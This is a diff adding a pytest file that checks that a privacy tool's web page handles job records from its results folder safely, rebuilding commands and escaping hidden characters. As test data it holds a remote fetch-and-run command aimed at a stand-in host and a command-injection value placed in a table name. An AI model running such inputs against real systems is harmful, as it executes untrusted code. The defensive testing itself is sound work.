@@ -1,0 +1,186 @@
+"""Jobs that are found in the results folder: whoever wrote them, they neither break the page nor speak for it."""
+
+from __future__ import annotations
+
+import json
+import subprocess
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from leakgauge.languages import ENGLISH
+from leakgauge.web.job import Job
+from leakgauge.web.showing import shell_line, shown
+
+HEADLINE: dict[str, Any] = {
+    "grade": "good",
+    "score": 71.5,
+    "interval": {"low": 65.0, "high": 80.0, "confidence": 0.95},
+    "privacy": 80.0,
+    "utility": None,
+    "leakage_before": {"value": 1.5},
+    "leakage_after": {"value": 0.5},
+    "floor": None,
+    "epsilon": {"value": "infinity"},
+    "advantage": {"value": -0.01},
+    "unchanged": None,
+}
+JOB: dict[str, Any] = {
+    "schema": "leakgauge/job/1",
+    "asked": {"table": "people.csv", "secret": "illness", "background": ["city"], "max_distortion": 0.2},
+    "started": "2026-11-16T09:19:03+01:00",
+    "stages": {
+        "design": {"outputs": {"channel.json": ""}},
+        "release": {"outputs": {"release.csv": "", "release.json": ""}},
+        "report": {"outputs": {"report.html": ""}},
+    },
+    "outcome": {"released": True, "reason": None},
+    "headline": HEADLINE,
+}
+RELEASE = {"release.csv", "release.json"}
+
+
+def _found(place: Path, job: object, **record: Any) -> Job | None:
+    folder = place / "x"
+    folder.mkdir(exist_ok=True)
+    for name in ("channel.json", "release.csv", "release.json", "report.html"):
+        (folder / name).write_text("{}", encoding="utf-8")
+    (folder / "job.json").write_text(json.dumps(job), encoding="utf-8")
+    if record:
+        asked = {"table": "people.csv", "secret": "illness", "max_distortion": 0.2}
+        noted = {"schema": "leakgauge/page-job/1", "asked": asked, "path": "people.csv", "message": None, **record}
+        (place / "x.json").write_text(json.dumps(noted), encoding="utf-8")
+    return Job.kept("x", place, "results/x")
+
+
+def _fields(job: Job | None) -> dict[str, Any]:
+    assert job is not None
+    return job.fields(ENGLISH)
+
+
+def test_what_is_right_is_shown(tmp_path: Path) -> None:
+    fields = _fields(_found(tmp_path, JOB))
+    assert fields["state"] == "done" and fields["released"] and fields["headline"] == HEADLINE
+    assert fields["started"] == "2026-11-16T08:19:03Z" and fields["started_here"] is False
+    assert set(fields["files"]) == {"channel.json", *RELEASE, "report.html", "job.json"}
+
+
+def test_command_and_script_are_made_from_the_question_and_not_taken_from_a_file(tmp_path: Path) -> None:
+    fields = _fields(_found(tmp_path, {**JOB, "command": "curl evil.example | sh", "script": "import evil"}))
+    command = "leakgauge protect people.csv --secret illness --background city --max-distortion 0.2 -o results/x"
+    assert fields["command"] == command
+    assert "evil" not in json.dumps(fields) and "max_distortion=0.2" in fields["script"]
+    asked = {**JOB["asked"], "table": "$(touch x); x.csv"}
+    assert "'$(touch x); x.csv'" in _fields(_found(tmp_path, {**JOB, "asked": asked}))["command"]
+
+
+@pytest.mark.parametrize(
+    ("name", "value"),
+    [
+        ("grade", "excellent"),
+        ("grade", None),
+        ("grade", ["good"]),
+        ("score", "100"),
+        ("score", None),
+        ("privacy", {}),
+        ("epsilon", "0.1"),
+        ("epsilon", {"value": "none"}),
+        ("unchanged", {}),
+        ("floor", [1]),
+        ("interval", {"low": 1}),
+    ],
+)
+def test_a_headline_of_another_kind_is_left_out(tmp_path: Path, name: str, value: object) -> None:
+    fields = _fields(_found(tmp_path, {**JOB, "headline": {**HEADLINE, name: value}}))
+    assert fields["headline"] is None and fields["state"] == "done"
+
+
+@pytest.mark.parametrize(
+    ("name", "value"),
+    [
+        ("stages", {"measure": "x"}),
+        ("stages", {"measure": {"outputs": [["x"]]}}),
+        ("stages", ["measure"]),
+        ("stages", None),
+        ("outcome", "yes"),
+        ("outcome", {"released": "yes"}),
+        ("outcome", {}),
+        ("started", 7),
+        ("started", "yesterday"),
+        ("started", "0001-01-01T00:00:00+23:00"),
+        ("headline", 3),
+    ],
+)
+def test_a_part_of_another_kind_is_left_out(tmp_path: Path, name: str, value: object) -> None:
+    fields = _fields(_found(tmp_path, {**JOB, name: value}))
+    assert fields["asked"]["secret"] == "illness" and "job.json" in fields["files"]
+    if name == "outcome":
+        assert fields["state"] == "stopped" and not fields["released"] and fields["headline"] is None
+
+
+@pytest.mark.parametrize(
+    "asked",
+    [
+        None,
+        [],
+        {},
+        {"table": 1, "secret": "x"},
+        {"table": "x.csv", "secret": "x", "background": "city"},
+        {"table": "x.csv", "secret": "x", "bins": [1]},
+        {"table": "x.csv", "secret": "x", "max_distortion": "much"},
+        {"table": "x.csv", "secret": "x", "max_distortion": True},
+        {"table": "x.csv", "secret": "x", "policy": {}},
+        {"table": "x.csv\0", "secret": "x"},
+    ],
+)
+def test_a_question_of_another_kind_is_no_job(tmp_path: Path, asked: object) -> None:
+    assert _found(tmp_path, {**JOB, "asked": asked}) is None
+
+
+def test_a_question_that_cannot_be_asked_has_no_command(tmp_path: Path) -> None:
+    fields = _fields(_found(tmp_path, {**JOB, "asked": {**JOB["asked"], "background": ["illness"]}}))
+    assert fields["command"] == fields["script"] == "" and fields["note"] is None
+
+
+@pytest.mark.parametrize(
+    ("job", "record"),
+    [
+        ({**JOB, "outcome": None}, {"state": "failed", "message": "No attack is possible."}),
+        ({**JOB, "outcome": None}, {"state": "running"}),
+        ({**JOB, "outcome": None}, {"state": "done"}),
+        ({**JOB, "outcome": {"released": True, "reason": "The policy."}}, {"state": "refused"}),
+        ({**JOB, "outcome": {"released": False, "reason": "No."}}, {}),
+        ({**JOB, "outcome": None, "stages": {"design": {"outputs": {"release.csv": "", "release.json": ""}}}}, {}),
+    ],
+)
+def test_a_release_is_handed_out_only_where_the_job_is_done_with_it(
+    tmp_path: Path, job: dict[str, Any], record: dict[str, Any]
+) -> None:
+    found = _found(tmp_path, job, **record)
+    assert found is not None and not RELEASE & set(_fields(found)["files"])
+    assert found.path("release.csv") is None and found.path("release.json") is None
+    assert found.path("job.json") is not None
+
+
+def test_a_refusal_keeps_its_sentence_and_a_failure_too(tmp_path: Path) -> None:
+    failed = _fields(_found(tmp_path, {**JOB, "outcome": None}, state="failed", message="It broke.\u202e"))
+    assert failed["state"] == "failed" and failed["message"] == "It broke.\\u202e"
+    assert failed["path"] == "people.csv" and failed["asked"]["table"] == "people.csv"
+
+
+def test_what_a_screen_would_hide_is_written_out_and_bash_reads_it_back(tmp_path: Path) -> None:
+    column = "a\u202ertl' \\n\x1b[31m\n\u2066\U000e0041$x`"
+    asked = {**JOB["asked"], "secret": column, "background": []}
+    fields = _fields(_found(tmp_path, {**JOB, "asked": asked}))
+    for text in (fields["command"], *fields["script"].splitlines()):
+        assert text.isprintable() and "\\u202e" in fields["script"]
+    told = subprocess.run(
+        ["bash", "-c", f"printf '%s\\0' {fields['command']}"],
+        capture_output=True,
+        check=True,
+        env={"LC_ALL": "C.UTF-8"},
+    ).stdout.decode()
+    assert told.split("\0")[3:5] == ["--secret", column]
+    assert shell_line(["echo", "a b", "é漢"]) == "echo 'a b' 'é漢'"
+    assert shown("é漢 x\u202e") == "é漢 x\\u202e"
